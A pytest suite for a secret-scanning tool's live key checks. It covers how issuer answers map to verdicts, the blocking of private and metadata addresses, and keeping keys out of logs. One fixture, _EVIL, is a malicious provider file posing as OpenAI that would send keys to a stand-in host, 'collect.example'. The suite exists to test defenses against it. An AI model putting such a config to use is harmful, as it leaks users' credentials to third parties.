"""Live checks against an emulated issuer: what each answer means, and who gets to see a key."""

from __future__ import annotations

import base64
import logging
import subprocess
import sys
import traceback
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote, quote_plus, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from keylint.catalogue import Catalogue
from keylint.catalogue.fake import fake
from keylint.catalogue.load import builtin, installed_checks
from keylint.model import KeyRef, Live, LiveCheck, Observation, Reason, Secrecy, Secret, Sign, Tier
from keylint.registry import Registry
from keylint.status.http import Client, Policy
from keylint.status.interface import SourceError, StatusSource
from keylint.status.live import LiveSource
from keylint.status.resolving import resolve

from .conftest import Emulator, Request, reply
from .test_http import bomb, closed, huge, slow_body, slow_head

QUICK = Policy(rate=10_000, burst=10_000)
HURRIED = replace(QUICK, total=0.3, tries=1)
CHECKS = installed_checks()
EACH = [(check, kind) for checks in CHECKS.values() for check in checks for kind in check.accepts]
ACME = LiveCheck(
    "acme", ("acme-key",), ("https://api.acme.example/me",), (Sign(200),), (Sign(401),), headers=(("X-Key", "{key}"),)
)
KEY = "acme-made-up-key-one"


def ref(fingerprint: str = "f1", provider: str = "acme", kind: str = "acme-key") -> KeyRef:
    return KeyRef(fingerprint, provider, kind)


class Asking:
    """A live source whose hosts are emulated; `hosts` are those that it wanted to ask."""

    def __init__(self, *checks: LiveCheck, policy: Policy = QUICK, **emulators: Emulator) -> None:
        self.hosts: list[str] = []
        self._checks = {check.provider: tuple(c for c in checks if c.provider == check.provider) for check in checks}
        self._policy = policy
        self._emulators = emulators

    def connect(self, url: str) -> Client:
        self.hosts.append(url)
        host = urlsplit(url).netloc.replace(".", "_").replace("-", "_")
        emulator = self._emulators.get(host) or self._emulators["everybody"]
        return Client(emulator.url, internal=True, policy=self._policy, sleep=lambda _: None)

    def source(self, secrets: Mapping[str, str], **kwargs: object) -> LiveSource:
        known = {fingerprint: Secret(key) for fingerprint, key in secrets.items()}
        arguments: dict[str, object] = {"connect": self.connect, **kwargs}
        return LiveSource(self._checks, tuple(self._checks), known, **arguments)  # type: ignore[arg-type]

    def one(self, key: str = KEY, about: KeyRef | None = None, **kwargs: object) -> Observation:
        asked = about or ref()
        (seen,) = said(self.source({asked.fingerprint: key}, **kwargs), asked)
        return seen


def said(source: LiveSource, *keys: KeyRef) -> list[Observation]:
    """What it says of the keys, complaints at the end aside."""
    seen: list[Observation] = []
    with suppress(SourceError):
        seen.extend(source.check(keys))
    return seen


def outcome(seen: Observation) -> tuple[Live, Reason]:
    return seen.verdict, seen.reason


def test_it_is_a_source() -> None:
    source: StatusSource = LiveSource({}, (), {})
    assert (source.tier, source.network, source.describe().complete_for) == (Tier.ISSUER, True, ())
    assert source.namespace != LiveSource({"acme": (ACME,)}, ("acme",), {}).namespace


@pytest.mark.parametrize(
    ("answer", "means"),
    [
        (reply(200, {}), (Live.LIVE, Reason.ACTIVE)),
        (reply(401, {}), (Live.DEAD, Reason.INVALID)),
        (reply(401, b"Unauthorized", "text/plain"), (Live.DEAD, Reason.INVALID)),
        (reply(401), (Live.DEAD, Reason.INVALID)),
        (reply(401, b"<html>", "text/html; charset=utf-8"), (Live.NONE, Reason.UNKNOWN)),
        (reply(401, b"{", "application/json"), (Live.NONE, Reason.SOURCE_ERROR)),
        (reply(400, {}), (Live.NONE, Reason.UNKNOWN)),
        (reply(402, {}), (Live.NONE, Reason.UNKNOWN)),
        (reply(403, {}), (Live.NONE, Reason.UNKNOWN)),
        (reply(403, {}, Retry_After="1"), (Live.NONE, Reason.RATE_LIMITED)),
        (reply(403, {}, X_RateLimit_Remaining="0"), (Live.NONE, Reason.RATE_LIMITED)),
        (reply(404, {}), (Live.NONE, Reason.UNKNOWN)),
        (reply(204), (Live.NONE, Reason.UNKNOWN)),
        (reply(429, {}, Retry_After="1"), (Live.NONE, Reason.RATE_LIMITED)),
        (reply(429, {}, Retry_After="3600"), (Live.NONE, Reason.RATE_LIMITED)),
        (reply(500, {}), (Live.NONE, Reason.SOURCE_ERROR)),
        (reply(503, {}), (Live.NONE, Reason.SOURCE_ERROR)),
        (reply(302, Location="https://elsewhere.example/"), (Live.NONE, Reason.SOURCE_ERROR)),
        (reply(200, b"<html>", "text/html"), (Live.NONE, Reason.SOURCE_ERROR)),
        (reply(200, b"no JSON"), (Live.NONE, Reason.SOURCE_ERROR)),
        (b"HTTP/1.0 nonsense\r\n\r\n", (Live.NONE, Reason.SOURCE_ERROR)),
    ],
)
def test_what_an_answer_means(provider: Emulator, answer: bytes, means: tuple[Live, Reason]) -> None:
    provider.answers(answer)
    seen = Asking(ACME, everybody=provider).one()
    assert outcome(seen) == means
    assert seen.observed_at is not None
    assert seen.note.startswith(f"127.0.0.1:{provider.port}")


@pytest.mark.parametrize("script", [slow_body, slow_head, huge, bomb, closed])
def test_an_issuer_that_misbehaves(provider: Emulator, script: Callable[[Emulator], Iterator[bytes]]) -> None:
    provider.script = lambda _: script(provider)
    policy = HURRIED if script in (slow_body, slow_head) else QUICK
    assert outcome(Asking(ACME, everybody=provider, policy=policy).one()) == (Live.NONE, Reason.SOURCE_ERROR)


@pytest.mark.parametrize(
    "url", ["https://127.0.0.1:1", "https://[::ffff:127.0.0.1]", "https://169.254.169.254", "https://0"]
)
def test_an_issuer_whose_address_is_not_public(url: str) -> None:
    def connect(_: str) -> Client:
        return Client(url)

    (seen,) = said(LiveSource({"acme": (ACME,)}, ("acme",), {"f1": Secret(KEY)}, connect=connect), ref())
    assert outcome(seen) == (Live.NONE, Reason.BLOCKED)


def test_an_issuers_name_with_an_address_that_is_not_public(names: dict[str, list[str]]) -> None:
    names["api.acme.example"] = ["127.0.0.1"]
    (seen,) = said(LiveSource({"acme": (ACME,)}, ("acme",), {"f1": Secret(KEY)}), ref())
    assert outcome(seen) == (Live.NONE, Reason.BLOCKED)
    assert seen.note == "api.acme.example: its address is not one that may be asked"


@settings(max_examples=60)
@given(answer=st.binary(max_size=300) | st.binary(max_size=200).map(lambda body: reply(200, body)))
def test_no_noise_makes_a_key_dead(answer: bytes) -> None:
    emulator = Emulator()
    emulator.script = lambda _: iter([answer]) if answer else iter(())
    emulator.hangs_up = True
    try:
        seen = Asking(ACME, everybody=emulator).one()
    finally:
        emulator.stop()
    assert seen.verdict is not Live.DEAD


def test_no_answer_is_ever_a_verdict_that_was_not_given(provider: Emulator) -> None:
    """Of all statuses, 401 alone is fatal for a check that names nothing else."""
    dead = []
    for status in (*range(200, 206), *range(300, 309), *range(400, 452), *range(500, 512)):
        provider.answers(reply(status, None if status in (204, 205, 304) else {}))
        if Asking(ACME, everybody=provider).one().verdict is Live.DEAD:
            dead.append(status)
    assert dead == [401]


# Signs.


def signed(*, live: tuple[Sign, ...] = (Sign(200),), dead: tuple[Sign, ...] = (Sign(401),)) -> LiveCheck:
    return replace(ACME, live=live, dead=dead)


@pytest.mark.parametrize(
    ("check", "answer", "means"),
    [
        (signed(live=(Sign(200, "ok", (True,)),)), reply(200, {"ok": True}), Reason.ACTIVE),
        (signed(live=(Sign(200, "ok", (True,)),)), reply(200, {"ok": 1}), Reason.UNKNOWN),
        (signed(live=(Sign(200, "n", (1,)),)), reply(200, {"n": True}), Reason.UNKNOWN),
        (signed(live=(Sign(200, "data.user.id"),)), reply(200, {"data": {"user": {"id": 0}}}), Reason.ACTIVE),
        (signed(live=(Sign(200, "data.user.id"),)), reply(200, {"data": {"user": None}}), Reason.UNKNOWN),
        (signed(live=(Sign(200, "data.user"),)), reply(200, {"data": {"user": None}}), Reason.UNKNOWN),
        (signed(live=(Sign(200, "data"),)), reply(200, ["data"]), Reason.UNKNOWN),
        (signed(live=(Sign(200, "data"),)), reply(200, b"null"), Reason.UNKNOWN),
        (signed(dead=(Sign(401, "e.*.c", ("x", "y")),)), reply(401, {"e": [{}, 1, {"c": "y"}]}), Reason.INVALID),
        (signed(dead=(Sign(401, "e.*.c", ("x",)),)), reply(401, {"e": {"c": "x"}}), Reason.UNKNOWN),
        (signed(dead=(Sign(401, "m", begins="Bad"),)), reply(401, {"m": "Bad key"}), Reason.INVALID),
        (signed(dead=(Sign(401, "m", begins="Bad"),)), reply(401, {"m": "Not Bad"}), Reason.UNKNOWN),
        (signed(dead=(Sign(401, "m", begins="Bad"),)), reply(401, {"m": ["Bad"]}), Reason.UNKNOWN),
        # A field says more than a status, on whichever side it stands.
        (signed(live=(Sign(200), Sign(401, "s", ("good",)))), reply(401, {"s": "good"}), Reason.ACTIVE),
        (signed(dead=(Sign(200, "off", (True,), reason=Reason.DISABLED),)), reply(200, {"off": True}), Reason.DISABLED),
        (signed(dead=(Sign(200, "off", (True,), reason=Reason.DISABLED),)), reply(200, {"off": False}), Reason.ACTIVE),
    ],
)
def test_signs(provider: Emulator, check: LiveCheck, answer: bytes, means: Reason) -> None:
    provider.answers(answer)
    assert Asking(check, everybody=provider).one().reason is means


@pytest.mark.parametrize(
    ("says", "end"),
    [
        ("2100-01-04", datetime(2100, 1, 4, tzinfo=UTC)),
        ("2100-01-04T10:00:00+02:00", datetime(2100, 1, 4, 8, tzinfo=UTC)),
        ("2001-01-01", None),
        ("soon", None),
        (None, None),
        (4102444800, None),
        ("9999-12-31T23:59:59-12:00", None),
    ],
)
def test_when_a_key_ends(provider: Emulator, says: object, end: datetime | None) -> None:
    provider.answers(reply(200, {"key": {"expires_at": says}}))
    seen = Asking(replace(ACME, expires="key.expires_at"), everybody=provider).one()
    assert (seen.verdict, seen.expires_at) == (Live.LIVE, end)


TWO = replace(ACME, urls=("https://us.acme.example/me", "https://eu.acme.example/me"))


@pytest.mark.parametrize(
    ("us", "eu", "means", "asked"),
    [
        (200, 200, (Live.LIVE, Reason.ACTIVE), (1, 0)),
        (401, 200, (Live.LIVE, Reason.ACTIVE), (1, 1)),
        (500, 200, (Live.LIVE, Reason.ACTIVE), (1, 1)),
        (401, 401, (Live.DEAD, Reason.INVALID), (1, 1)),
        (401, 500, (Live.NONE, Reason.SOURCE_ERROR), (1, 1)),
        (403, 401, (Live.NONE, Reason.UNKNOWN), (1, 1)),
    ],
)
def test_a_key_of_one_region_is_not_dead(
    emulate: Callable[..., Emulator], us: int, eu: int, means: tuple[Live, Reason], asked: tuple[int, int]
) -> None:
    here, there = emulate(), emulate()
    here.answers(reply(us, {}))
    there.answers(reply(eu, {}))
    seen = Asking(TWO, us_acme_example=here, eu_acme_example=there).one()
    assert outcome(seen) == means
    assert (len(here.requests), len(there.requests)) == asked


# Who is asked about what.


def test_nobody_is_asked_who_was_not_named(provider: Emulator) -> None:
    live = Asking(ACME, everybody=provider)
    named = LiveSource({"acme": (ACME,)}, (), {"f1": Secret(KEY)}, connect=live.connect)
    other = live.source({"f1": KEY})
    assert list(named.check([ref()])) == []
    assert list(other.check([ref(provider="other"), replace(ref(), provider=None), ref("f2")])) == []
    assert (live.hosts, provider.connections) == ([], 0)


@pytest.mark.parametrize(
    ("about", "kwargs", "reason"),
    [
        (ref(), {"canaries": {"f1"}}, Reason.CANARY),
        (ref(kind="acme-other-key"), {}, Reason.UNSUPPORTED),
        (replace(ref(), kind=None), {}, Reason.UNSUPPORTED),
    ],
)
def test_keys_that_are_not_sent(provider: Emulator, about: KeyRef, kwargs: dict[str, object], reason: Reason) -> None:
    live = Asking(ACME, everybody=provider)
    assert outcome(live.one(about=about, **kwargs)) == (Live.NONE, reason)
    assert provider.connections == 0


def test_keys_that_cannot_be_sent(provider: Emulator) -> None:
    live = Asking(ACME, everybody=provider)
    assert [live.one(key).reason for key in (f"{KEY}\n", f"{KEY}ä", f"\x00{KEY}")] == [Reason.UNSUPPORTED] * 3
    assert provider.requests == []


def test_only_keys_with_the_beginning_that_a_check_is_for(provider: Emulator) -> None:
    live = Asking(replace(ACME, prefixes=("pat_", "oat_")), everybody=provider)
    assert [live.one(key).reason for key in ("oat_1", "ref_1")] == [Reason.ACTIVE, Reason.UNSUPPORTED]


PAIR = replace(ACME, urls=("https://api.acme.example/{pair}/me",), headers=(), basic=("{pair}", "{key}"))


def test_a_key_that_is_used_with_another(provider: Emulator) -> None:
    live = Asking(PAIR, everybody=provider)
    assert outcome(live.one()) == (Live.NONE, Reason.UNSUPPORTED)
    assert provider.connections == 0
    assert live.one(pairs={"f1": Secret("AC/1")}).verdict is Live.LIVE
    assert provider.requests[0].target == "/AC%2F1/me"
    assert (
        provider.requests[0].headers["authorization"] == f"Basic {base64.b64encode(b'AC/1:' + KEY.encode()).decode()}"
    )


def test_an_account_is_not_guessed_at(provider: Emulator) -> None:
    source = Asking(PAIR, everybody=provider).source(
        {"f1": "key-1", "f2": "key-2", "f3": "key-3", "f4": "key-3"},
        pairs={"f1": Secret("AC1"), "f2": Secret("AC1"), "f3": Secret("AC2"), "f4": Secret("AC2")},
    )
    seen = {o.fingerprint: o.reason for o in source.check([*map(ref, ("f1", "f2", "f3", "f4"))])}
    assert seen == {
        "f1": Reason.UNSUPPORTED,
        "f2": Reason.UNSUPPORTED,
        "f3": Reason.ACTIVE,
        "f4": Reason.ACTIVE,
    }
    assert [request.target for request in provider.requests] == ["/AC2/me"]


def test_every_value_is_tried_once(provider: Emulator) -> None:
    live = Asking(ACME, everybody=provider)
    keys = {f"f{n}": f"acme-key-{n % 7}" for n in range(30)}
    seen = list(live.source(keys).check([*map(ref, keys), ref("f1")]))
    assert {o.fingerprint for o in seen} == set(keys)
    assert sorted(r.headers["x-key"] for r in provider.requests) == sorted(set(keys.values()))


def test_a_host_that_is_down_is_left_alone(provider: Emulator) -> None:
    provider.answers(reply(500))
    live = Asking(ACME, everybody=provider, policy=replace(QUICK, at_once=1))
    keys = {f"f{n}": f"acme-key-{n}" for n in range(40)}
    seen = said(live.source(keys), *map(ref, keys))
    assert {o.reason for o in seen} == {Reason.SOURCE_ERROR}
    assert len(seen) == 40
    assert len(provider.requests) < 15  # three in a row, and who was on the way by then


def test_the_user_hears_of_issuers_that_could_not_be_asked(emulate: Callable[..., Emulator]) -> None:
    down, well = emulate(), emulate()
    down.answers(reply(500))
    other = replace(ACME, provider="other", accepts=("other-key",), urls=("https://api.other.example/",))
    source = Asking(ACME, other, api_acme_example=down, api_other_example=well).source({"f1": KEY, "f2": "other-1"})
    run = resolve([ref("f1"), ref("f2", "other", "other-key")], [source], (), datetime.now(UTC))
    (asked,) = run.asked
    assert (asked.keys, asked.said, asked.error) == (2, 1, f"127.0.0.1:{down.port}: answered 500")
    assert {name: verdict.reason for name, verdict in run.verdicts.items()} == {
        "f1": Reason.SOURCE_ERROR,
        "f2": Reason.ACTIVE,
    }


def test_what_comes_of_it(provider: Emulator) -> None:
    answers = {"acme-good": reply(200, {}), "acme-bad": reply(401, {}), "acme-busy": reply(429, {}, Retry_After="60")}
    provider.script = lambda request: [answers[request.headers["x-key"]]]
    keys = {name: name for name in answers}
    source = Asking(ACME, everybody=provider).source(keys)
    verdicts = resolve(map(ref, keys), [source], (), datetime.now(UTC)).verdicts
    assert {name: (v.live, v.reason) for name, v in verdicts.items()} == {
        "acme-good": (Live.LIVE, Reason.ACTIVE),
        "acme-bad": (Live.DEAD, Reason.INVALID),
        "acme-busy": (Live.NONE, Reason.RATE_LIMITED),
    }


# Every check that is installed.


def test_there_are_checks_for_many_providers() -> None:
    assert len(CHECKS) >= 60


@pytest.mark.parametrize("provider_id", CHECKS)
def test_checks_are_about_the_providers_own_keys(provider_id: str) -> None:
    catalogue = builtin()
    for check in CHECKS[provider_id]:
        kinds = [catalogue.kinds[kind] for kind in check.accepts]
        assert {kind.provider for kind in kinds} == {provider_id}
        assert all(kind.secrecy is not Secrecy.IDENTIFIER and kind.retired is None for kind in kinds)
        assert not check.needs_pair or all(kind.pair for kind in kinds)
        assert check.source


@pytest.mark.parametrize(("check", "kind"), EACH, ids=[kind for _, kind in EACH])
def test_what_every_check_sends_and_understands(check: LiveCheck, kind: str, provider: Emulator) -> None:
    key, pair = _made_up(check, kind), "made-up-account"
    live = Asking(check, everybody=provider)
    about = ref(provider=check.provider, kind=kind)

    def verdict(answer: bytes) -> tuple[Live, Reason]:
        provider.answers(answer)
        return outcome(live.one(key, about, pairs={"f1": Secret(pair)}))

    for sign in check.live:
        assert verdict(_answer(sign)) == (Live.LIVE, Reason.ACTIVE)
    for sign in check.dead:
        assert verdict(_answer(sign)) == (Live.DEAD, sign.reason)
    for sign in (s for s in check.dead if s.at):
        other = {"status": sign.status, "message": "something else"}
        assert verdict(reply(sign.status, other))[0] is not Live.DEAD or Sign(401) in check.dead
    for answer in (
        reply(403),
        reply(403, {}),
        reply(403, {"message": "Forbidden", "error": "forbidden", "status": 403}),
        reply(403, b"Forbidden", "text/plain"),
        reply(404, {}),
        reply(500, {}),
        reply(200, b"<html>", "text/html"),
        reply(401, b"<html>", "text/html"),
    ):
        assert verdict(answer)[0] is Live.NONE
    hosts = {urlsplit(url).netloc for url in check.urls}
    assert set(live.hosts) == {f"https://{host}" for host in hosts}
    paths = {quote(urlsplit(url).path.replace("{key}", key).replace("{pair}", pair), safe="/:@") for url in check.urls}
    assert {urlsplit(request.target).path for request in provider.requests} == paths
    assert all(_carries(request, key) for request in provider.requests)


def _made_up(check: LiveCheck, kind: str) -> str:
    catalogue = builtin()
    forms = range(len(catalogue.kinds[kind].forms))
    keys = (fake(kind, catalogue=catalogue, form=form) for form in forms)
    return next(key for key in keys if key.startswith(check.prefixes or ""))


def _answer(sign: Sign) -> bytes:
    body: object = sign.values[0] if sign.values else f"{sign.begins} …"
    for step in reversed(sign.at.split(".") if sign.at else []):
        body = [body] if step == "*" else {step: body}
    return reply(sign.status, body if sign.at else {})


def _carries(request: Request, key: str) -> bool:
    basic = request.headers.get("authorization", "").removeprefix("Basic ")
    texts = [request.raw.decode()]
    if request.headers.get("authorization", "").startswith("Basic "):
        texts.append(base64.b64decode(basic).decode())
    return any(form in text for text in texts for form in (key, quote(key, safe=":"), quote_plus(key)))


# A project has no say in it.

_EVIL = """\
id = "openai"
name = "OpenAI"
hosts = ["collect.example"]

[[kind]]
id = "anything"
name = "Anything"
forms = ["'any_' base62{20}"]

[[check]]
accepts = ["openai-project-key", "anything"]
url = "https://collect.example/keys"
headers = { Authorization = "Bearer {key}" }
live = [{ status = 200 }]
side_effects = "none"
source = "me"
"""


def test_a_projects_own_provider_file_brings_no_check(
    tmp_path: Path, provider: Emulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "openai.toml"
    file.write_text(_EVIL)
    (tmp_path / "keylint.toml").write_text('providers = ["openai.toml"]\n')
    monkeypatch.chdir(tmp_path)
    catalogue: Catalogue = Registry((str(file),)).catalogue
    assert "anything" in catalogue.kinds
    assert "collect.example" in catalogue.providers["openai"].hosts
    assert installed_checks() == CHECKS
    live = Asking(*CHECKS["openai"], everybody=provider)
    keys = {"f1": fake("openai-project-key", catalogue=catalogue), "f2": fake("anything", catalogue=catalogue)}
    refs = [ref("f1", "openai", "openai-project-key"), ref("f2", "openai", "anything")]
    seen = {o.fingerprint: o.reason for o in live.source(keys).check(refs)}
    assert seen["f2"] is Reason.UNSUPPORTED
    assert set(live.hosts) == {"https://api.openai.com"}
    assert [_carries(request, keys["f1"]) for request in provider.requests] == [True]
    assert not any(_carries(request, keys["f2"]) for request in provider.requests)


# Nobody else sees a key.


@pytest.mark.parametrize("status", [200, 302, 401, 429, 500])
def test_a_key_is_seen_by_its_own_issuer_alone(
    emulate: Callable[..., Emulator], status: int, caplog: pytest.LogCaptureFixture
) -> None:
    hosts = {"api_acme_example": emulate(), "api_other_example": emulate()}
    elsewhere = emulate()
    other = replace(ACME, provider="other", accepts=("other-key",), urls=("https://api.other.example/{key}",))
    keys = {"f1": KEY, "f2": "other-made-up-key"}
    for emulator in hosts.values():
        emulator.script = lambda r: [reply(status, {"echo": r.target}, Location=f"{elsewhere.url}/?{KEY}", X=r.target)]
    live = Asking(ACME, other, **hosts)
    source = live.source(keys)
    with caplog.at_level(logging.DEBUG):
        seen = said(source, ref("f1"), ref("f2", "other", "other-key"))
    assert len(seen) == 2
    acme, others = hosts.values()
    assert acme.requests
    assert all(_carries(r, keys["f1"]) and not _carries(r, keys["f2"]) for r in acme.requests)
    assert others.requests
    assert all(_carries(r, keys["f2"]) and not _carries(r, keys["f1"]) for r in others.requests)
    assert elsewhere.connections == 0
    shown = f"{seen!r} {source!r} {vars(source)!r} {caplog.text} {[record.__dict__ for record in caplog.records]!r}"
    assert not any(key in shown for key in keys.values())


def test_no_key_in_what_goes_wrong() -> None:
    def connect(_: str) -> Client:
        raise RuntimeError("no client")

    source = LiveSource({"acme": (ACME,)}, ("acme",), {"f1": Secret(KEY)}, connect=connect)
    with pytest.raises(RuntimeError) as caught:
        list(source.check([ref()]))
    ours = [
        f for f, _ in traceback.walk_tb(caught.value.__traceback__) if f.f_globals["__name__"].startswith("keylint")
    ]
    assert ours
    assert KEY not in repr([frame.f_locals for frame in ours])


def test_nothing_of_it_is_imported_without_need(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import openai\nopenai.OpenAI()\n")
    code = (
        "import sys; from keylint.cli import main\n"
        "try: main()\n"
        "except SystemExit: print(sorted({'keylint.engine', 'keylint.status.live', 'httpcore2', 'ssl'} & set(sys.modules)))"
    )
    run = subprocess.run(
        [sys.executable, "-c", code, "check", str(tmp_path)], capture_output=True, text=True, check=True
    )
    assert run.stdout.splitlines()[-1] == "['keylint.engine']"
